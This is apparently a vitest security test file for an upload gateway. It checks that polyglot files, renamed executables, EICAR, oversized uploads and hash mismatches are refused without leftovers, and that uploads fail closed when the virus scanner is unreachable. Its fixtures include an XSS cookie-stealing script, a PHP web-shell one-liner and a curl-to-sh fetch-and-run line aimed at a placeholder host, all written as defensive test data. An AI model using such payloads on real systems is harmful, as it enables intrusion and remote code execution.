// Malicious uploads through the gateway (issue 10, item 6): polyglots, renamed executables, the
// EICAR test file, oversize (also when Upload-Length lies) and hash mismatches are refused with a
// typed Indonesian refusal, and nothing is left behind: no partial upload in UPLOAD_DIR, no file
// in the store, no GridFS chunk, no record, no audit entry. The documents service also scans with
// Debian's clamd (INSTREAM, the test-kit's signature database), and refuses uploads once clamd
// cannot be reached.
import { readdir } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import {
  CLAMD_TEST_MARKER,
  CLAMD_TEST_SIGNATURE,
  eventually,
  getUserToken,
  sha256Hex,
  startClamd,
  tusUpload,
  type RunningClamd,
  type TusUploadResult,
} from '@sipadu/test-kit';
import mongoose, { type Connection } from 'mongoose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EICAR } from '../../services/documents/src/uploads/malware-scan.js';
import {
  docxBytes,
  exeBytes,
  jpegBytes,
  jpegWithExif,
  pdfBytes,
  pngBytes,
  zipBytes,
} from '../../services/documents/src/uploads/test-files.js';
import type { UploadRefusalCode } from '../../services/documents/src/uploads/upload-refusal.js';
import { startApiStack, type ApiStack } from '../support/api-stack.js';

const DATABASE = 'sipadu_security_uploads';
// Where startApiStack keeps this stack's partial uploads and its filesystem store.
const SCRATCH = path.join(os.tmpdir(), `sipadu-test-${DATABASE}`);
const UPLOAD_DIR = path.join(SCRATCH, 'uploads');
const FILE_STORAGE_DIR = path.join(SCRATCH, 'files');

let stack: ApiStack;
let clamd: RunningClamd;
let connection: Connection;
let token: string;

beforeAll(async () => {
  clamd = await startClamd();
  // The documents service of the stack reads its settings from the environment at start.
  const saved = { host: process.env.CLAMAV_HOST, port: process.env.CLAMAV_PORT };
  process.env.CLAMAV_HOST = clamd.host;
  process.env.CLAMAV_PORT = String(clamd.port);
  try {
    stack = await startApiStack(DATABASE);
  } finally {
    restoreEnv('CLAMAV_HOST', saved.host);
    restoreEnv('CLAMAV_PORT', saved.port);
  }
  connection = await mongoose
    .createConnection(process.env.MONGO_URL ?? 'mongodb://127.0.0.1:27017', {
      dbName: `${DATABASE}-documents`,
    })
    .asPromise();
  token = await getUserToken('pelaksana');
}, 180_000);

afterAll(async () => {
  await connection?.close();
  await stack?.stop();
  await clamd?.stop();
});

function restoreEnv(name: string, value: string | undefined) {
  if (value === undefined) delete process.env[name];
  else process.env[name] = value;
}

async function listFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name))
    .sort();
}

/** Everything an upload can leave behind. */
async function leftovers() {
  const db = connection.db as NonNullable<Connection['db']>;
  const count = (name: string) => db.collection(name).countDocuments();
  return {
    partialUploads: await listFiles(UPLOAD_DIR),
    storedFiles: await listFiles(FILE_STORAGE_DIR),
    records: await count('stored_files'),
    gridFsFiles: await count('files.files'),
    gridFsChunks: await count('files.chunks'),
    auditEntries: await count('audit_entries'),
  };
}

/** Runs an upload that must be refused with `code` and checks that it left nothing behind. */
async function refused(
  code: UploadRefusalCode,
  upload: () => Promise<TusUploadResult>,
): Promise<TusUploadResult> {
  const before = await leftovers();
  const result = await upload();
  expect(result.fileId).toBeNull();
  // The Sipadu-Refusal header, through the gateway.
  expect(result.refusal, result.message ?? '').toBe(code);
  expect(await leftovers()).toEqual(before);
  return result;
}

const send = (bytes: Uint8Array, filename: string, purpose = 'document', sha256?: string) =>
  tusUpload({
    origin: stack.gatewayOrigin,
    token,
    bytes,
    filename,
    purpose,
    chunks: 2,
    ...(sha256 ? { sha256 } : {}),
  });

const concat = (...parts: (Uint8Array | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part)));

const POLYGLOT = /Berkas ditolak: selain .* \(berkas poliglot\).*Berkas tidak disimpan\./;
const WRONG_TYPE = /^Jenis berkas tidak diizinkan untuk/;
const MALWARE = /^Berkas ditolak karena mengandung perangkat lunak berbahaya \(EICAR-Test-File/;

describe('ordinary files still pass (and are scanned by clamd)', () => {
  it('a PDF, a DOCX and a JPEG with EXIF are stored', async () => {
    const facts = { latitude: -6.2, longitude: 106.8, dateTimeOriginal: '2026:03:04 09:10:11' };
    const scanned = await clamd.scanned();
    for (const [bytes, filename, purpose] of [
      [await pdfBytes(2), 'laporan.pdf', 'document'],
      [docxBytes({ 'word/media/foto.jpg': await jpegBytes() }, { deflate: true }), 'nota.docx'],
      [await jpegWithExif(facts, 1024, 768), 'lokasi.jpg', 'photo'],
    ] as const) {
      const result = await send(bytes, filename, purpose);
      expect(result.status, result.message ?? '').toBe(204);
      expect(result.fileId).toBeTruthy();
    }
    await eventually(
      'clamd memindai ketiga berkas',
      async () => (await clamd.scanned()) === scanned + 3,
    );
    expect((await leftovers()).partialUploads).toEqual([]);
  });
});

describe('polyglots are refused', () => {
  const jar = () => zipBytes({ 'META-INF/MANIFEST.MF': 'Main-Class: Muat\n', 'Muat.class': 'x' });

  it('a JPEG carrying a JAR (ZIP local headers and central directory)', async () => {
    const result = await refused('POLYGLOT', async () =>
      send(concat(await jpegBytes(), jar()), 'a.jpg', 'photo'),
    );
    expect(result.status).toBe(422);
    expect(result.message).toMatch(POLYGLOT);
    expect(result.message).toMatch(/arsip ZIP/);
  });

  it('a PNG carrying a script, a PDF carrying PHP and a PDF carrying HTML', async () => {
    for (const [bytes, filename, purpose] of [
      [concat(await pngBytes(), '<SCRIPT>alert(document.cookie)</SCRIPT>'), 'b.png', 'photo'],
      [concat(await pdfBytes(), '<?php system($_GET["c"]); ?>'), 'c.pdf', 'document'],
      [concat(await pdfBytes(), '<html><body onload="x()"></body></html>'), 'd.pdf', 'document'],
    ] as const) {
      const result = await refused('POLYGLOT', () => send(bytes, filename, purpose));
      expect(result.status, filename).toBe(422);
      expect(result.message).toMatch(POLYGLOT);
      expect(result.message).toMatch(/HTML\/skrip/);
    }
  });

  it('a PDF carrying a Windows program and a PDF carrying a ZIP', async () => {
    const pe = await refused('POLYGLOT', async () =>
      send(concat(await pdfBytes(), exeBytes()), 'e.pdf'),
    );
    expect(pe.status).toBe(422);
    expect(pe.message).toMatch(/program Windows \(PE\)/);
    const zip = await refused('POLYGLOT', async () =>
      send(concat(await pdfBytes(), jar()), 'f.pdf'),
    );
    expect(zip.status).toBe(422);
    expect(zip.message).toMatch(/arsip ZIP/);
  });

  it('a DOCX carrying macros or a program', async () => {
    const extras: Record<string, string | Uint8Array>[] = [
      { 'word/vbaProject.bin': 'Attribute VB_Name = "Makro"' },
      { 'word/embeddings/setup.exe': exeBytes() },
    ];
    for (const extra of extras) {
      const result = await refused('POLYGLOT', () =>
        send(docxBytes(extra, { deflate: true }), 'g.docx'),
      );
      expect(result.status).toBe(422);
      expect(result.message).toMatch(POLYGLOT);
    }
  });

  it('a GIFAR (GIF and JAR in one): GIF is no allowed photo type', async () => {
    const gif = Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')]);
    const result = await refused('TYPE_NOT_ALLOWED', () =>
      send(concat(gif, jar()), 'h.jpg', 'photo'),
    );
    expect(result.status).toBe(415);
    expect(result.message).toMatch(WRONG_TYPE);
  });
});

describe('renamed executables are refused', () => {
  const elf = () => {
    const bytes = Buffer.alloc(4096);
    bytes.set([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01]);
    return bytes;
  };
  const machO = () => {
    const bytes = Buffer.alloc(4096);
    bytes.set([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]);
    return bytes;
  };
  const script = Buffer.from('#!/bin/sh\ncurl -s http://contoh.invalid/x | sh\n');

  it('a Windows program, a Linux program, a macOS program and a shell script named .pdf or .jpg', async () => {
    for (const [bytes, filename, purpose] of [
      [exeBytes(), 'laporan.pdf', 'document'],
      [elf(), 'foto.jpg', 'photo'],
      [machO(), 'laporan.pdf', 'document'],
      [script, 'laporan.pdf', 'document'],
      [script, 'foto.jpg', 'photo'],
    ] as const) {
      const result = await refused('TYPE_NOT_ALLOWED', () => send(bytes, filename, purpose));
      expect(result.status, filename).toBe(415);
      expect(result.message).toMatch(WRONG_TYPE);
    }
  });
});

describe('the EICAR test file is refused as malware', () => {
  it('alone, named .pdf', async () => {
    const result = await refused('MALWARE_DETECTED', () => send(Buffer.from(EICAR), 'eicar.pdf'));
    expect(result.status).toBe(422);
    expect(result.message).toMatch(MALWARE);
  });

  it('inside a ZIP, inside a DOCX (compressed) and after a valid PDF', async () => {
    for (const [bytes, filename] of [
      [zipBytes({ 'eicar.com': EICAR }), 'arsip.docx'],
      [docxBytes({ 'word/media/eicar.com': EICAR }, { deflate: true }), 'nota.docx'],
      [concat(await pdfBytes(), EICAR), 'laporan.pdf'],
    ] as const) {
      const result = await refused('MALWARE_DETECTED', () => send(bytes, filename));
      expect(result.status, filename).toBe(422);
      expect(result.message).toMatch(MALWARE);
    }
  });

  it('what clamd reports is refused too', async () => {
    const bytes = concat(await pdfBytes(), `% ${CLAMD_TEST_MARKER}\n`);
    const result = await refused('MALWARE_DETECTED', () => send(bytes, 'penanda.pdf'));
    expect(result.status).toBe(422);
    expect(result.message).toContain(CLAMD_TEST_SIGNATURE);
  });
});

/** A tus creation as a client that lies about the length would send it. */
async function create(length: number, filename: string, purpose: string, sha256: string) {
  const meta = { filename, purpose, sha256 };
  return fetch(`${stack.gatewayOrigin}/files`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${token}`,
      'tus-resumable': '1.0.0',
      'upload-length': String(length),
      'upload-metadata': Object.entries(meta)
        .map(([key, value]) => `${key} ${Buffer.from(value).toString('base64')}`)
        .join(','),
    },
  });
}

async function patch(location: string, body: BodyInit, extra: RequestInit = {}) {
  return fetch(new URL(location, stack.gatewayOrigin), {
    method: 'PATCH',
    headers: {
      authorization: `Bearer ${token}`,
      'tus-resumable': '1.0.0',
      'upload-offset': '0',
      'content-type': 'application/offset+octet-stream',
    },
    body,
    ...extra,
  });
}

/** A 4-page PDF whose upload is created declaring only its first 1024 bytes. */
async function createUnderDeclared() {
  const bytes = await pdfBytes(4);
  const before = await leftovers();
  const created = await create(1024, 'bohong.pdf', 'document', sha256Hex(bytes.subarray(0, 1024)));
  expect(created.status).toBe(201);
  return { bytes, before, location: created.headers.get('location') as string };
}

describe('oversize uploads are refused', () => {
  it('over the purpose limit at creation', async () => {
    const before = await leftovers();
    const response = await create(21 * 1024 * 1024, 'foto.jpg', 'photo', '0'.repeat(64));
    expect(response.status).toBe(413);
    expect(response.headers.get('sipadu-refusal')).toBe('TOO_LARGE');
    expect(await response.text()).toMatch(/^Ukuran berkas melebihi batas untuk Foto \(20 MB\)/);
    expect(await leftovers()).toEqual(before);
  });

  it('more bytes than Upload-Length declared: the upload is ended, not kept for resuming', async () => {
    const { bytes, before, location } = await createUnderDeclared();

    const response = await patch(location, new Uint8Array(bytes));
    expect(response.status).toBe(413);
    expect(response.headers.get('sipadu-refusal')).toBe('TOO_LARGE');
    expect(await response.text()).toMatch(
      /melebihi ukuran berkas yang dinyatakan; unggahan dibatalkan/,
    );
    expect(await leftovers()).toEqual(before);
    const resumed = await fetch(new URL(location, stack.gatewayOrigin), {
      method: 'HEAD',
      headers: { authorization: `Bearer ${token}`, 'tus-resumable': '1.0.0' },
    });
    expect(resumed.status).toBe(404);
  });

  it('more bytes than declared in a body without Content-Length', async () => {
    const { bytes, before, location } = await createUnderDeclared();
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let at = 0; at < bytes.length; at += 512)
          controller.enqueue(bytes.slice(at, at + 512));
        controller.close();
      },
    });
    const response = await patch(location, body, {
      duplex: 'half',
    } as RequestInit);
    expect(response.status, await response.text()).toBe(413);
    expect(response.headers.get('sipadu-refusal')).toBe('TOO_LARGE');
    expect(await leftovers()).toEqual(before);
  });
});

describe('hash mismatches are refused', () => {
  it('a sha256 that is not the SHA-256 of the bytes sent', async () => {
    const bytes = await pdfBytes(2);
    const wrong = sha256Hex(concat(bytes, ' '));
    const result = await refused('SHA256_MISMATCH', () =>
      send(bytes, 'hash.pdf', 'document', wrong),
    );
    expect(result.status).toBe(422);
    expect(result.message).toMatch(/SHA-256 tidak cocok/);
  });
});

// Last: afterwards clamd is gone for this stack.
describe('a configured but unreachable clamd', () => {
  it('refuses uploads (fail-closed) and keeps nothing', async () => {
    await clamd.stop();
    const result = await refused('SCANNER_UNAVAILABLE', async () =>
      send(await pdfBytes(), 'tanpa-pemindai.pdf'),
    );
    expect(result.status).toBe(503);
    expect(result.message).toMatch(/^Pemindai virus sedang tidak dapat dihubungi/);
  });
});
